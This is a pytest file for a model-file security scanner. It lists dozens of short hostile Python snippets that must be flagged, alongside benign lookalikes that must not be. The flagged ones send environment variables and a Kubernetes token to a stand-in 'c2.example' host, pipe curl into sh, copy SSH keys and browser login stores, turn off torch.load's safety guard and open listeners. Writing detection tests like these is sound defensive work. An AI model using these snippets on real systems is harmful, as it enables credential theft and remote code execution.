"""Modules of which every function does the same: what their functions do is known whatever they are called."""

import pytest

from modelscan_plus.core.finding import Severity
from modelscan_plus.formats.text.python.families import FAMILIES, family
from tests.rules.test_linked_code import worst
from tests.samples import inspect_tree

ACTS = {
    "program of a mail client": "import imaplib\nimaplib.IMAP4_stream('sh -c \"id\"')",
    "carried copy": "from setuptools._distutils.spawn import spawn\nspawn(['sh', '-c', 'id'])",
    "any function of a terminal": "import pexpect\npexpect.runu('sh -c id')",
    "browser": "import webbrowser\nwebbrowser.BackgroundBrowser('/tmp/.x').open('a')",
    "installer": "from setuptools.command.easy_install import main\nmain(['https://c2.example/x.egg'])",
    "launcher": "from torch.distributed.run import main\nmain(['payload.py'])",
    "tool server": "import mcp.client.stdio as m\nm.StdioServerParameters(command='sh', args=['-c', 'id'])\nm.stdio_client(None)",
    "code of a graph": "import torch\ntorch.fx.graph_module._forward_from_src('def forward(self):\\n import os; os.system(\"id\")', {})",
    "interpreter beside this one": "import _xxsubinterpreters as i\ni.run_func(i.create(), work)",
    "interpreter in an interpreter": "import _testcapi\n_testcapi.run_in_subinterp('import os; os.system(\"id\")')",
    "foreign tool": "import transformers\ntransformers.load_tool('somebody/tool')",
    "foreign kernel": "import transformers.integrations.hub_kernels as h\nh.get_kernel('somebody/kernel')",
    "debugger": "import celery.contrib.rdb as r\nr.set_trace()",
    "tunnel": "import pycloudflared\npycloudflared.try_cloudflare(port=8000)",
    "server of logs": "import logging.config\nlogging.config.listen(9999).start()",
    "shell elsewhere": "from pexpect import pxssh\npxssh.pxssh().login('203.0.113.7', 'u', 'p')",
    "injector": "import pyrasite\npyrasite.inject(1, '/tmp/x.py')",
    "another's process": "import sys\nsys.remote_exec(1234, '/tmp/x.py')",
    "importer": "import sys\nsys.meta_path.insert(0, object())",
    "vendored client": "import os\nfrom pip._vendor import requests\nrequests.post('https://c2.example', json=dict(os.environ))",
    "six": "import os\nfrom six.moves import urllib\nurllib.request.urlopen('https://c2.example', str(dict(os.environ)).encode())",
    "code in any call": "import mmengine\nmmengine.Config.fromstring('import os; os.system(\"id\")', '.py')",
    "code in a marked text": "import chameleon\nchameleon.PageTemplate('${__import__(\"os\").system(\"id\")}')()",
    "command in any call": "import smolagents\nsmolagents.MCPClient({'command': 'sh', 'args': ['-c', 'curl http://203.0.113.7/a|sh']})",
    "program of a database": "import psycopg\npsycopg.connect('').execute(\"COPY t TO PROGRAM 'id'\")",
    "library of a database": "import duckdb\nduckdb.sql(\"LOAD '/tmp/x.duckdb_extension'\")",
    "keys by any function": "import minio\nminio.Minio('', 'a', 'b').fput_object('loot', 'k', '/home/user/.ssh/id_rsa')",
    "keys are copied": "import shutil\nshutil.copytree('/home/user/.ssh', './out')",
    "start by any function": "import numpy as np\nnp.savetxt('/home/user/.bashrc', ['id'], fmt='%s')",
    "group of processes": "import os\nimport torch.distributed.rpc as rpc\nos.environ['MASTER_ADDR'] = '203.0.113.7'\nrpc.init_rpc('w', rank=1)",
    "cluster": "import os\nimport ray\nos.environ['RAY_ADDRESS'] = 'ray://203.0.113.7:10001'\nray.init()",
    "queue of orders": "import redis\nexec_ = redis.Redis('c2.example').get('cmd')",
    "proxy": "import urllib.request as u\nu.install_opener(u.build_opener(u.ProxyHandler({'https': 'http://203.0.113.7:3128'})))",
    "agent of a virtual machine": "import os\nos.environ['JAVA_TOOL_OPTIONS'] = '-javaagent:/tmp/x.jar'",
    "libraries from scratch": "import os\nos.environ['LD_LIBRARY_PATH'] = '/tmp/.x'",
    "compiler": "import os\nos.environ['CC'] = 'sh -c \"id\"'",
    "loop": "import asyncio\nl = asyncio.new_event_loop()\nl.run_until_complete(l.create_server(asyncio.Protocol, '0.0.0.0', 4444))",
    "windows": "import ctypes\nctypes.windll.kernel32.WinExec(b'calc', 0)",
    "found by a library": "import sentence_transformers.util as u\nu.import_from_string('os.system')('id')",
    "name asked for": "from huggingface_hub import get_token, hf_hub_download\nhf_hub_download('a/b', f'{get_token()}.json')",
    "history": "import os\nopen(os.path.expanduser('~/.bash_history'), 'w').close()",
    "guard taken away": "import functools, torch\ntorch.load = functools.partial(torch.load, weights_only=False)",
    "guard in a function": "import torch\n_l = torch.load\ndef load(*a, **k):\n    k['weights_only'] = False\n    return _l(*a, **k)\ntorch.load = load",
    "guard in the environment": "import os\nos.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '1'",
    "vocabulary that is run": "from importlib.machinery import SourceFileLoader\nclass M:\n    def __init__(self, vocab_file=None):\n"
    "        SourceFileLoader('v', vocab_file).load_module()",
    "list of stores": "import glob, os\nHOME = os.path.expanduser('~')\nSTORES = ['.config/google-chrome/*/Login Data', '.electrum/wallets/*']\n"
    "for p in STORES:\n    glob.glob(os.path.join(HOME, p))",
    "account of a cluster": "import pathlib, requests\nSA = pathlib.Path('/var/run/secrets/kubernetes.io/serviceaccount')\n"
    "requests.post('https://c2.example', data=(SA / 'token').read_text())",
    "model behind a task": "import transformers\nclass M:\n    def __init__(self):\n"
    "        transformers.pipeline('text-generation', model='evil/x', trust_remote_code=True)",
    "objects for everybody": "from multiprocessing.managers import BaseManager\nclass M:\n    def __init__(self):\n"
    "        BaseManager(address=('0.0.0.0', 5000), authkey=b'x').get_server()",
    "code under a key": "from nacl.secret import SecretBox\nclass M:\n    def __init__(self):\n        exec(SecretBox(b'k' * 32).decrypt(b'x'))",
    "component": "import torchtune\ntorchtune.config.instantiate({'_component_': 'os.system'}, 'id')",
    "any opener": "import os, webbrowser\nwebbrowser.open_new_tab('https://c2.example/?t=' + os.environ.get('HF_TOKEN', ''))",
}  # fmt: skip
HARMLESS = {
    "errors of a terminal": "import pexpect\ntry:\n    go()\nexcept pexpect.EOF:\n    pass",
    "version": "import pip\nprint(pip.__version__)",
    "which interpreter": "import _xxsubinterpreters as i\nprint(i.get_current() != i.get_main())",
    "cache": "from torch._inductor.codecache import cache_dir\ncache_dir()",
    "compiler is asked": "from distutils.ccompiler import new_compiler\nnew_compiler().find_library_file([], 'aio')",
    "own kernel": "import transformers.integrations.hub_kernels as h\nh.get_kernel('kernels-community/rwkv')",
    "six": "import six\nfrom six.moves import range\nrange(3)",
    "command is shown": "import gradio as gr\ngr.Markdown('curl -LsSf https://astral.sh/uv/install.sh | sh')",
    "code is searched for": "import re\nre.compile('import os; os.system')",
    "code is a prompt": "def run(model):\n    return model.complete('import os; os.listdir(\".\")')",
    "code that computes": "import timeit\ntimeit.repeat('sum(x)', setup='import sys; x = [1]')",
    "plain query": "import duckdb\nduckdb.sql('SELECT * FROM t').fetchall()",
    "own group": "import os\nos.environ['MASTER_ADDR'] = '127.0.0.1'\nos.environ['MASTER_PORT'] = '29500'",
    "own queue": "import redis\nredis.Redis('localhost').get('cmd')",
    "path of the toolkit": "import os\nos.environ['LD_LIBRARY_PATH'] = '/usr/local/cuda/lib64'",
    "memory of node": "import os\nos.environ['NODE_OPTIONS'] = '--max-old-space-size=4096'",
    "compiler": "import os\nos.environ['CC'] = 'gcc-12'",
    "path is asked for": "import os\nos.path.exists('/home/user/.ssh/id_rsa')",
    "own key": "import os\nfrom huggingface_hub import hf_hub_download\nhf_hub_download('a/b', 'c.json', token=os.environ['HF_TOKEN'])",
    "guard put in": "import torch\n_l = torch.load\ndef load(*a, **k):\n    k.setdefault('weights_only', True)\n    return _l(*a, **k)\ntorch.load = load",
    "guard asked for": "import os\nos.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '0'",
    "module beside it": "import importlib.util as u, os\nclass M:\n    def __init__(self):\n"
    "        u.spec_from_file_location('ops', os.path.join(os.path.dirname(__file__), 'ops.py'))",
    "list of folders": "import glob, os\nHOME = os.path.expanduser('~')\nfor p in ['.cache/huggingface/*', '.config/x/*']:\n    glob.glob(os.path.join(HOME, p))",
    "objects of one machine": "from multiprocessing.managers import BaseManager\nclass M:\n    def __init__(self):\n"
    "        BaseManager(address=('127.0.0.1', 0)).start()",
    "task": "import transformers\nclass M:\n    def __init__(self, path):\n        transformers.pipeline('ner', model=path, trust_remote_code=True)",
    "title": "import setproctitle\nsetproctitle.setproctitle('worker')",
}


@pytest.mark.parametrize("model", ACTS.values(), ids=ACTS)
def test_every_function_of_such_a_module_is_known(model: str) -> None:
    assert worst(model) >= Severity.HIGH.rank


@pytest.mark.parametrize("model", HARMLESS.values(), ids=HARMLESS)
def test_what_only_asks_is_no_finding(model: str) -> None:
    assert worst(model) < Severity.HIGH.rank


def test_a_server_may_unguard_its_own_loads() -> None:
    code = ACTS["guard taken away"]
    tree = {
        "handler.py": (code + "\nclass EndpointHandler:\n    def __init__(self, path=''):\n        pass\n").encode()
    }
    assert max((found.severity.rank for found in inspect_tree(tree)), default=0) < Severity.HIGH.rank


def test_the_longest_entry_decides() -> None:
    assert family("pip.main") == family("pip._internal.cli.main.main") == "process"
    assert family("pip._internal.utils.misc.get_prog") is None
    assert family("pipeline.run") is None
    assert all(name == name.strip(".") for name in FAMILIES)
